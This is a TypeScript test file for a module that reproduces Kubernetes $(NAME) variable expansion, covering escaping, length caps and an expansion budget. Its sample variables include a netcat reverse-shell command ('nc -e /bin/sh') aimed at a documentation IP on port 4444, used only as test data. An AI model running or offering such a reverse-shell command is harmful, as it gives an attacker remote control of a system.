/**
 * k8s-var-expansion.ts: `$(NAME)` expansion as the kubelet applies it to command, args and env
 * values (k8s.io/kubernetes third_party/forked/golang/expansion's syntax), with its bounds.
 */
import { describe, expect, it } from 'vitest';
import { containerVars, expandVars, expansionBudget, MAX_EVENT_EXPANDED, MAX_EXPANDED, MAX_VARS } from './k8s-var-expansion.js';
import { mulberry32 } from '../../core/mulberry32.js';

const vars = new Map([['HOST', '203.0.113.7'], ['P', 'nc -e /bin/sh $(HOST) 4444'], ['EMPTY', '']]);

describe('expandVars', () => {
  it('replaces known references, keeps unknown ones, and reads $$ as one $', () => {
    expect(expandVars('nc $(HOST) 4444', vars)).toBe('nc 203.0.113.7 4444');
    expect(expandVars('$(HOST)$(HOST)', vars)).toBe('203.0.113.7203.0.113.7');
    expect(expandVars('x$(EMPTY)y', vars)).toBe('xy');
    expect(expandVars('$(TOKEN) and $(HOST)', vars)).toBe('$(TOKEN) and 203.0.113.7');
    expect(expandVars('$$(HOST)', vars)).toBe('$(HOST)');
    expect(expandVars('$$$(HOST)', vars)).toBe('$203.0.113.7');
    expect(expandVars('cost: 5$ or $HOME or ${HOST}', vars)).toBe('cost: 5$ or $HOME or ${HOST}');
    expect(expandVars('$(HOST', vars)).toBe('$(HOST');
    expect(expandVars('$', vars)).toBe('$');
    expect(expandVars('a$(', vars)).toBe('a$(');
    // A value is not expanded again where it is used: its own references were expanded when it was defined.
    expect(expandVars('$(P)', vars)).toBe('nc -e /bin/sh $(HOST) 4444');
  });

  it('stops at MAX_EXPANDED characters however the references multiply', () => {
    const big = new Map([['A', 'x'.repeat(4096)]]);
    expect(expandVars('$(A)'.repeat(100), big)).toHaveLength(MAX_EXPANDED);
    expect(expandVars('y'.repeat(MAX_EXPANDED + 10), big)).toHaveLength(MAX_EXPANDED);
  });

  it('never throws and never grows past its bound on random text', () => {
    const r = mulberry32(11);
    const PARTS = ['$', '(', ')', '$$', '$(A)', '$(B', 'A', ' ', '$(', '))'];
    const m = new Map([['A', '$(A)$(A)'], ['B', 'b']]);
    for (let n = 0; n < 3000; n++) {
      const s = Array.from({ length: Math.floor(r() * 12) }, () => PARTS[Math.floor(r() * PARTS.length)]!).join('');
      const got = expandVars(s, m);
      expect(got.length).toBeLessThanOrEqual(MAX_EXPANDED);
      if (!s.includes('$')) expect(got).toBe(s);
    }
  });
});

describe('containerVars', () => {
  it('expands each literal value from the variables before it, in order, and tells each one', () => {
    const seen: string[] = [];
    const got = containerVars([
      { name: 'HOST', value: '203.0.113.7' },
      { name: 'URL', value: 'http://$(HOST)/$(LATER)' },
      { name: 'LATER', value: 'x' },
      { name: 'TOKEN', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } },
      { name: 7, value: 'bad name' },
      'junk', null,
    ], (name, value) => seen.push(`${name}=${value}`));
    expect([...got]).toEqual([['HOST', '203.0.113.7'], ['URL', 'http://203.0.113.7/$(LATER)'], ['LATER', 'x']]);
    expect(seen).toEqual(['HOST=203.0.113.7', 'URL=http://203.0.113.7/$(LATER)', 'LATER=x']);
  });

  it('lets a later definition replace an earlier one, and a valueFrom unset a literal of its name', () => {
    expect(containerVars([{ name: 'A', value: '1' }, { name: 'A', value: '$(A)2' }]).get('A')).toBe('12');
    expect(containerVars([{ name: 'A', value: '1' }, { name: 'A', valueFrom: { fieldRef: { fieldPath: 'metadata.name' } } }]).has('A')).toBe(false);
  });

  it('reads MAX_VARS variables at most and bounds values that double at each step', () => {
    expect(containerVars(Array.from({ length: MAX_VARS + 50 }, (_, i) => ({ name: `V${i}`, value: 'v' }))).size).toBe(MAX_VARS);
    const doubling = [{ name: 'V0', value: 'x'.repeat(64) }, ...Array.from({ length: 20 }, (_, i) => ({ name: `V${i + 1}`, value: `$(V${i})$(V${i})` }))];
    expect(containerVars(doubling).get('V20')).toHaveLength(MAX_EXPANDED);
    expect(containerVars('not a list').size).toBe(0);
  });

  it('stops expanding when the event budget is spent: strings then stay as written', () => {
    const budget = expansionBudget();
    const doubling = [{ name: 'V0', value: 'x'.repeat(64) }, ...Array.from({ length: 400 }, (_, i) => ({ name: `V${i + 1}`, value: `$(V${i})$(V${i})` }))];
    const got = containerVars(doubling, undefined, budget);
    expect(budget.chars).toBeLessThanOrEqual(0);
    expect(budget.chars).toBeGreaterThan(-MAX_EXPANDED);
    expect(got.get('V400')).toBe('$(V399)$(V399)');
    expect(expandVars('$(V0)', got, budget)).toBe('$(V0)');
    expect(MAX_EVENT_EXPANDED).toBeGreaterThan(MAX_EXPANDED);
  });
});
